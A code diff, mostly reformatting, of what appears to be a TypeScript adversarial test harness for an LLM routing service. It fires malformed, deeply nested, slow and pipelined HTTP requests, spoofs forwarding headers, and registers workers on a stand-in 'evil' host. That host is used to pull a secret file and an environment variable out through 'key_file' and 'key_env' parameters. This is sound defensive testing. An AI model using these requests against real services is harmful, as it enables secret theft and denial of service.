@@ -16,7 +16,12 @@ interface Target {
 }
 
 /** Writes raw bytes, reads until the answer ends or `RAW_MS_MAX` have passed. `reads` false: reads nothing. */
-function raw({ host, port }: Target, bytes: Uint8Array | string, hearsay: Hearsay, reads = true): Promise<string> {
+function raw(
+  { host, port }: Target,
+  bytes: Uint8Array | string,
+  hearsay: Hearsay,
+  reads = true,
+): Promise<string> {
   return new Promise(resolve => {
     const socket = connect(port, host)
     let text = ''
@@ -37,7 +42,12 @@ function raw({ host, port }: Target, bytes: Uint8Array | string, hearsay: Hearsa
   })
 }
 
-function request(method: string, path: string, headers: readonly string[], body: Uint8Array | string = ''): Buffer {
+function request(
+  method: string,
+  path: string,
+  headers: readonly string[],
+  body: Uint8Array | string = '',
+): Buffer {
   const bytes = Buffer.from(body)
   const head = [
     `${method} ${path} HTTP/1.1`,
@@ -64,13 +74,26 @@ export function evilClient(target: Target, hearsay: Hearsay, honest: string, evi
         say(
           request(
             'POST',
-            pick(random, ['/v1/chat/completions', '/v1/completions', '/v1/messages', '/v1/responses', '/route']),
+            pick(random, [
+              '/v1/chat/completions',
+              '/v1/completions',
+              '/v1/messages',
+              '/v1/responses',
+              '/route',
+            ]),
             [JSON_TYPE],
             mutated(random, Buffer.from(prompt(pick(random, [honest, evil])))),
           ),
         ),
       deepBody: () =>
-        say(request('POST', '/v1/completions', [JSON_TYPE], `{"model":"${honest}","prompt":${'['.repeat(100_000)}`)),
+        say(
+          request(
+            'POST',
+            '/v1/completions',
+            [JSON_TYPE],
+            `{"model":"${honest}","prompt":${'['.repeat(100_000)}`,
+          ),
+        ),
       bomb: () =>
         say(
           request(
@@ -82,7 +105,12 @@ export function evilClient(target: Target, hearsay: Hearsay, honest: string, evi
         ),
       pipelinedDumps: () => say('GET /dump HTTP/1.1\r\nhost: router\r\n\r\n'.repeat(30), false),
       pipelinedViews: random =>
-        say(`GET ${pick(random, ['/workers', '/metrics', '/decisions', '/actors'])} HTTP/1.1\r\nhost: router\r\n\r\n`.repeat(20), false),
+        say(
+          `GET ${pick(random, ['/workers', '/metrics', '/decisions', '/actors'])} HTTP/1.1\r\nhost: router\r\n\r\n`.repeat(
+            20,
+          ),
+          false,
+        ),
       askRoute: async () => {
         await Promise.all(
           Array.from({ length: 10 }, () => say(request('POST', '/route', [JSON_TYPE], prompt(honest)))),
@@ -90,7 +118,8 @@ export function evilClient(target: Target, hearsay: Hearsay, honest: string, evi
       },
       diagnosis: () => say(request('GET', `/workers/127.0.0.1:1/diagnosis`, [])),
       slowHead: () => say('POST /v1/completions HTTP/1.1\r\nhost: router\r\nx-', true),
-      slowBody: () => say('POST /v1/completions HTTP/1.1\r\nhost: router\r\ncontent-length: 1000\r\n\r\n{', true),
+      slowBody: () =>
+        say('POST /v1/completions HTTP/1.1\r\nhost: router\r\ncontent-length: 1000\r\n\r\n{', true),
       longNames: random =>
         say(
           request(
@@ -101,7 +130,9 @@ export function evilClient(target: Target, hearsay: Hearsay, honest: string, evi
           ),
         ),
       strictPriority: async random => {
-        const nvext = { agent_hints: { strict_priority: 2 ** 31 - 1, priority: 1e9, latency_sensitivity: 1e9 } }
+        const nvext = {
+          agent_hints: { strict_priority: 2 ** 31 - 1, priority: 1e9, latency_sensitivity: 1e9 },
+        }
         await Promise.all(
           Array.from({ length: 5 }, () =>
             say(
@@ -118,11 +149,19 @@ export function evilClient(target: Target, hearsay: Hearsay, honest: string, evi
       ownModel: async random => {
         await Promise.all(
           Array.from({ length: 5 }, () =>
-            say(request('POST', '/v1/completions', [JSON_TYPE], prompt(evil, { stream: pick(random, [true, false]) }))),
+            say(
+              request(
+                'POST',
+                '/v1/completions',
+                [JSON_TYPE],
+                prompt(evil, { stream: pick(random, [true, false]) }),
+              ),
+            ),
           ),
         )
       },
-      badHttp: random => say(mutated(random, request('POST', '/v1/completions', [JSON_TYPE], prompt(honest)))),
+      badHttp: random =>
+        say(mutated(random, request('POST', '/v1/completions', [JSON_TYPE], prompt(honest)))),
       tokenData: () =>
         say(request('POST', '/v1/completions', [JSON_TYPE], prompt(honest, { nvext: { token_data: [5] } }))),
     },
@@ -149,8 +188,17 @@ export function evilPage(
     [`host: 127.0.0.1:${target.port}`, 'x-forwarded-host: evil.example'],
     [`host: 127.0.0.1:${target.port}`, 'cf-connecting-ip: 10.0.0.9'],
   ]
-  const change = async (random: Parameters<typeof pick>[0], method: string, path: string, body = ''): Promise<void> => {
-    const answer = await raw(target, request(method, path, [JSON_TYPE, ...pick(random, disguises)], body), hearsay)
+  const change = async (
+    random: Parameters<typeof pick>[0],
+    method: string,
+    path: string,
+    body = '',
+  ): Promise<void> => {
+    const answer = await raw(
+      target,
+      request(method, path, [JSON_TYPE, ...pick(random, disguises)], body),
+      hearsay,
+    )
     const status = Number(/^HTTP\/1\.1 (\d{3})/.exec(answer)?.[1] ?? 0)
     if (status >= 200 && status < 300) onChange(`${method} ${path}: ${status}`)
   }
@@ -159,15 +207,30 @@ export function evilPage(
     stop() {},
     deeds: {
       addWorker: random =>
-        change(random, 'POST', '/workers', JSON.stringify({ url: `${evilUrl}/p${whole(random, 1e9)}?events_host=_x` })),
+        change(
+          random,
+          'POST',
+          '/workers',
+          JSON.stringify({ url: `${evilUrl}/p${whole(random, 1e9)}?events_host=_x` }),
+        ),
       stealFile: random =>
-        change(random, 'POST', '/workers', JSON.stringify({ url: `${evilUrl}/f?key_file=${encodeURIComponent(secretFile)}` })),
+        change(
+          random,
+          'POST',
+          '/workers',
+          JSON.stringify({ url: `${evilUrl}/f?key_file=${encodeURIComponent(secretFile)}` }),
+        ),
       stealVariable: random =>
         change(random, 'POST', '/workers', JSON.stringify({ url: `${evilUrl}/v?key_env=${secretVariable}` })),
       removeWorker: random => change(random, 'DELETE', `/workers/${honestWorker}`),
       drainWorker: random => change(random, 'POST', `/workers/${honestWorker}/drain`),
       thresholds: random =>
-        change(random, 'POST', '/busy_threshold', JSON.stringify({ model: 'homing-sim', active_decode_blocks_threshold: 0 })),
+        change(
+          random,
+          'POST',
+          '/busy_threshold',
+          JSON.stringify({ model: 'homing-sim', active_decode_blocks_threshold: 0 }),
+        ),
     },
   }
 }
